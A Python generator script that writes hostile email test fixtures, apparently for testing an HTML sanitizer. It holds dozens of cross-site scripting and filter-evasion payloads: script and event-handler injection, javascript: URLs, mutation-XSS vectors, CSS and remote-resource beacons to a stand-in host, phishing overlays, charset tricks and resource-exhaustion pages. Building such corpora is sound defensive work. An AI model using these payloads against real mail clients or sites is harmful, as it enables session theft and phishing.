#!/usr/bin/env python3
"""Writes the hostile messages of this folder anew: `python3 make.py`.

Each message has a page that says `kept NAME` first, then tries to run a script (`hit('NAME')`) or to fetch
`http://beacon.example/NAME`. Sources: OWASP XSS filter evasion cheat sheet; advisories of ammonia (RUSTSEC-2019-0001,
2021-0074, 2022-0003, 2025-0071 and the changes of 4.2.3 to 4.2.5); the test cases of DOMPurify for mutation XSS; CSS and
HTML as browsers fetch by them. Written here in our own words.
"""
import base64
import pathlib
import struct
import zlib

HERE = pathlib.Path(__file__).parent
B = "http://beacon.example/"


def png(width=2, height=2):
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    rows = b"".join(b"\0" + b"\x30\x60\x90" * width for _ in range(height))
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))


def message(name, page, parts=(), charset="utf-8", raw=None):
    head = (f"From: sender@trust.example\r\nTo: reader@outside.example\r\nSubject: hostile {name}\r\n"
            f"Message-ID: <{name}@trust.example>\r\nMIME-Version: 1.0\r\n")
    body = raw if raw is not None else f"<p>kept {name}</p>\r\n{page}\r\n".encode("utf-8", "surrogatepass")
    kind = f"Content-Type: text/html; charset={charset}\r\nContent-Transfer-Encoding: 8bit\r\n\r\n".encode()
    if not parts:
        data = head.encode() + kind + body
    else:
        data = head.encode() + b'Content-Type: multipart/related; boundary="b1"\r\n\r\n--b1\r\n' + kind + body
        for cid, declared, content in parts:
            coded = base64.encodebytes(content).replace(b"\n", b"\r\n")
            data += (f"\r\n--b1\r\nContent-Type: {declared}\r\nContent-ID: <{cid}>\r\nContent-Disposition: inline\r\n"
                     f"Content-Transfer-Encoding: base64\r\n\r\n").encode() + coded
        data += b"\r\n--b1--\r\n"
    (HERE / f"{name}.eml").write_bytes(data)


def hit(name):
    return f"hit('{name}')"


PAGES = {
    # Scripts where a browser runs one.
    "script": "<script>{h}</script><SCRIPT SRC={b}></SCRIPT><script/x>{h}</script>",
    "script-broken": "<scr<script>ipt>{h}</scr</script>ipt><script\n>{h}</script\n><<script>{h}//<</script>",
    "handlers": "<img src=x onerror={h}><body onload={h}><div onclick={h} onmouseover={h} onfocus={h} autofocus tabindex=1>x</div><p/onwheel={h}>x<b\fonclick={h}>x",
    "handlers-odd": "<img/src='x'/onerror={h}><img src=x\x0conerror={h}><a onpointerrawupdate={h}>x</a><xss onanimationstart={h} style='animation:a 1s'>x",
    "details-toggle": "<details open ontoggle={h}>x</details><marquee onstart={h}>x</marquee><input autofocus onfocus={h}><select autofocus onfocus={h}><keygen autofocus onfocus={h}>",
    "svg": "<svg onload={h}><script>{h}</script><a xlink:href='javascript:{h}'><text y=20>x</text></a><image href='{b}'/></svg>",
    "svg-animate": "<svg><a><animate attributeName=href values=javascript:{h} /><set attributeName=href to=javascript:{h} /><text>x</text></a></svg>",
    "svg-use": "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{h}</script></svg>#x'/><foreignObject><iframe src=javascript:{h}></iframe></foreignObject></svg>",
    "math": "<math href='javascript:{h}'>x<mtext></mtext><maction actiontype=statusline xlink:href='javascript:{h}'>x</maction></math>",
    "javascript-url": "<a href='javascript:{h}'>x</a><a href='JaVa\tScRiPt:{h}'>y</a><a href='&#106;avascript:{h}'>z</a><a href='\x01javascript:{h}'>w</a><area href=javascript:{h}>",
    "vbscript-url": "<a href='vbscript:{h}'>x</a><img src='vbscript:{h}'><img src=javascript:{h}><img dynsrc=javascript:{h} lowsrc=javascript:{h}>",
    "data-url": "<a href='data:text/html,<script>{h}</script>'>x</a><iframe src='data:text/html,<script>{h}</script>'></iframe><object data='data:text/html;base64,PHNjcmlwdD4='></object><img src='data:image/svg+xml,<svg onload={h}>'>",
    "iframe": "<iframe src={b}></iframe><iframe srcdoc='<script>{h}</script>'></iframe><frameset><frame src={b}></frameset><fencedframe src={b}></fencedframe><portal src={b}></portal>",
    "object": "<object data={b}><param name=movie value={b}></object><embed src={b}><applet code=x codebase={b}></applet><bgsound src={b}>",
    "template": "<template><script>{h}</script><img src={b}></template><div><template shadowrootmode=open><img src={b} onerror={h}></template></div>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror={h}>'></noscript><noembed><img src={b}></noembed><noframes><img src={b}></noframes>",
    # Mutation: what one parser makes of the output of another.
    "mutation-math-style": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={h}&gt;'>",
    "mutation-form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror={h}>",
    "mutation-svg-style": "<svg></p><style><a id='</style><img src=1 onerror={h}>'>",
    "mutation-annotation": "<math><annotation-xml encoding='text/html'><style><img src=x onerror={h}></style></annotation-xml></math><svg><desc><style><!--</style><img src=x onerror={h}>--></style>",
    "mutation-math-svg": "<math><mi><svg><mtext><style><img src=x onerror={h}></style></mtext></svg></mi></math><svg><title><math><mtext><style></title><img src=x onerror={h}>",
    "mutation-table": "<table><td><form><table><img src=x onerror={h}><td><svg><style>*{{}}</table><script>{h}</script></style></svg>",
    "mutation-select": "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror={h}>'>x</a>",
    "mutation-textarea": "<textarea><img title='</textarea><img src=x onerror={h}>'></textarea><title><a id='</title><script>{h}</script>'></a>",
    "mutation-xmp": "<xmp><p id='</xmp><img src=x onerror={h}>'></xmp><listing>&lt;img src=x onerror={h}&gt;</listing>",
    "mutation-comment": "<!--><img src=x onerror={h}>--><!--!><script>{h}</script>--!><? <img src=x onerror={h}> ?><![CDATA[<img src=x onerror={h}>]]>",
    "mutation-nesting": "<b>" * 600 + "<math><mtext><table><mglyph><style><math href='javascript:{h}'></style>" + "</b>" * 600,
    "selectedcontent": "<select><button><selectedcontent></selectedcontent></button><option><img src=x onerror={h}></option></select>",
    # What leaves by itself.
    "meta-refresh": "<meta http-equiv=refresh content='0;url={b}'><META HTTP-EQUIV='Set-Cookie' CONTENT='a=b'><meta http-equiv=Content-Security-Policy content='default-src *'>",
    "base": "<base href='{b}'><a href='x'>x</a><img src='y'><base target=_top>",
    "link": "<link rel=stylesheet href={b}><link rel=prefetch href={b}><link rel=dns-prefetch href=//beacon.example><link rel=preload as=image href={b}><link rel=icon href={b}>",
    "form": "<form action={b} method=post id=f><input name=password type=password><button type=submit formaction={b}>Sign in</button><input type=image src={b}></form><button form=f formaction=javascript:{h}>x</button><isindex action={b}>",
    "remote-image": "<img src={b}><img srcset='{b} 2x, {b}3 3x'><picture><source srcset={b}><img src={b}></picture><image src={b}><img src=//beacon.example/x><img src='\\\\beacon.example\\x'><input type=image src={b}>",
    "remote-background": "<body background={b}><table background={b}><tr background={b}><td background={b}>x</td></tr></table>",
    "remote-media": "<video poster={b} src={b} autoplay><source src={b}><track src={b}></video><audio src={b} autoplay></audio>",
    "ping": "<a href='{b}' ping='{b}ping' target=_blank download>x</a><img longdesc={b} usemap='#m'><map name=m><area href={b} ping={b}></map><blockquote cite={b}>q</blockquote><del cite={b}>d</del>",
    # Style.
    "style-sheet": "<style>@import '{b}'; body{{background:url({b})}} @font-face{{font-family:x;src:url({b})}} *{{font-family:x}}</style><style/>@import url({b});</style>",
    "style-url": "<div style='background:url({b})'>x</div><div style=\"background:URL('{b}')\">x</div><div style='background:u\\72l({b})'>x</div><div style='background:ur/**/l({b})'>x</div><div style='list-style:image-set(\"{b}\" 1x);cursor:url({b}),auto;content:url({b});filter:url({b}#x);mask:url({b});border-image:url({b})'>x</div>",
    "style-expression": "<div style='width:expression({h})'>x</div><div style='-moz-binding:url({b}#x)'>x</div><div style='behavior:url({b})'>x</div><div style=\"color:red;}}</style><script>{h}</script>\">x</div>",
    "style-overlay": "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;background-color:white'>Sign in again</div><div style='margin-top:-500px;margin-left:-9999px'>x</div><div style='width:99999px;font-size:9999px'>y</div><p style='transform:scale(99);opacity:0;display:none'>z</p>",
    "style-quotes": "<div style=\"color:red&quot; onclick=&quot;{h}\">x</div><div style='color:\"\">&lt;img src=x onerror={h}&gt;'>x</div><div style=\"font-family:'</div><script>{h}</script>'\">x</div>",
    # Size and nesting.
    "table-100000-cells": "<table>" + "<tr>" * 1 + "<td>1" * 100_000 + "</table>",
    "table-spans": "<table><tr><td colspan=4294967295 rowspan=99999999>x</td><td colspan=1000 rowspan=65534 width=99999999>y</td></tr></table><hr width=99999999><img width=99999999 height=99999999 src=x>",
    "nesting": "<div>" * 40_000 + "deep",
    "formatting": "".join(f"<font color=#{i:06x}>" for i in range(4_000)) + "<p>x" * 4_000,
    "attributes": "<div " + " ".join(f"a{i}=1" for i in range(60_000)) + ">x</div>",
    "fostered": "<table>" + "<b>x</b><tr>" * 20_000 + "</table>",
    "unclosed": "<table><tr><td><b><i><a href='{b}'>x<div><p><ul><li>y<li>z<table><tr><td>q",
    "unended-tag": "<img src='x' alt='" + "y " * 3_000 + "{b}",
    # Text that reads as another.
    "bidi": "<p>invoice\u202Efdp.exe and \u2066user\u2069</p><a href='http://beacon.example/\u202Emoc.elpmaxe'>bank.example</a><bdo dir=rtl>olleh</bdo>",
    "nulls": "<scr\0ipt>{h}</scr\0ipt><img src=x on\0error={h}><a href='java\0script:{h}'>x</a>\0<sc\0ript>",
    "control": "<img src=x onerror\x0b={h}><img\x0csrc={b}\x0conerror={h}>\x1b]0;x\x07<a href=' \x01\x02javascript:{h}'>x</a>",
    "link-says-another": "<a href='{b}login'>https://www.trust.example/</a> <a href='https://trust.example@beacon.example/x'>trust</a> <a href='{b}'><img src='{b}logo.png' alt='Trust logo'></a>",
    "entities": "&lt;script&gt;{h}&lt;/script&gt; &#60;img src=x onerror={h}&#62; &lt<img src=x onerror={h}> &#x3c;iframe src={b}&#x3e;",
    "conditional-comment": "<!--[if mso]><script>{h}</script><img src={b}><![endif]--><!--[if !mso]><!--><img src={b}><!--<![endif]--><xml:namespace prefix=x><o:p>x</o:p><v:imagedata src={b}>",
    "import-map": "<script type=importmap>{{\"imports\":{{\"x\":\"{b}\"}}}}</script><script type=module src={b}></script><script type=speculationrules>{{\"prefetch\":[{{\"urls\":[\"{b}\"]}}]}}</script>",
}

for name, page in PAGES.items():
    if "{h}" in page or "{b}" in page or "{{" in page:
        page = page.format(h=hit(name), b=B + name)
    message(name, page)

svg = b"<svg xmlns='http://www.w3.org/2000/svg' onload=\"hit('cid-svg')\"><script>hit('cid-svg')</script></svg>"
page = b"<html><script>hit('cid-html')</script><img src=http://beacon.example/cid-html></html>"
polyglot = b"GIF89a/*" + b"\0" * 8 + b"*/=1;hit('cid-polyglot')//<script>hit('cid-polyglot')</script>"
message("cid-svg", "<img src=cid:p1><object data=cid:p1></object>", [("p1", "image/png", svg)])
message("cid-html", "<img src='cid:p1'><iframe src='cid:p1'></iframe><a href='cid:p1'>x</a>", [("p1", "image/png", page)])
message("cid-polyglot", "<img src='cid:p1'><script src='cid:p1'></script>", [("p1", "image/gif", polyglot)])
message("cid-picture", "<img src='CID:p%31' alt='\"><script>hit(1)</script>' width=20 onload=hit('cid-picture')><img src='cid:none' alt='gone'>",
        [("p1", "text/html", png())])
message("cid-bomb", "<img src='cid:p1'>" * 300, [("p1", "image/png", png() + b"\0" * 60_000)])
message("cid-pixels", "<img src='cid:p1'>",
        [("p1", "image/png", png()[:16] + struct.pack(">II", 60_000, 60_000) + png()[24:])])

utf7 = b"<p>kept charset-utf7</p>+ADw-script+AD4-hit('charset-utf7')+ADw-/script+AD4-"
message("charset-utf7", "", charset="utf-7", raw=utf7)
message("charset-broken", "", charset="utf-8", raw=b"<p>kept charset-broken</p><img alt=\"\xc3\" src=x onerror=hit('charset-broken') x=\"\xe2\x80\">\xff\xfe\x80<script>\xf0hit('charset-broken')</script>")
message("charset-jis", "", charset="iso-2022-jp", raw=b"<p>kept charset-jis</p>\x1b$B<img src=x onerror=hit('charset-jis')>\x1b(B<img alt=\"\x1b$B\" src=x onerror=hit('charset-jis')>")
message("charset-sjis", "", charset="shift_jis", raw=b"<p>kept charset-sjis</p><img alt=\"\x81\" src=x onerror=hit('charset-sjis') \"><img alt='\x83'>x")
message("charset-unknown", "", charset="x-nowhere", raw=b"<p>kept charset-unknown</p>\xbcscript\xbehit('charset-unknown')\xbc/script\xbe<script>hit(1)</script>")
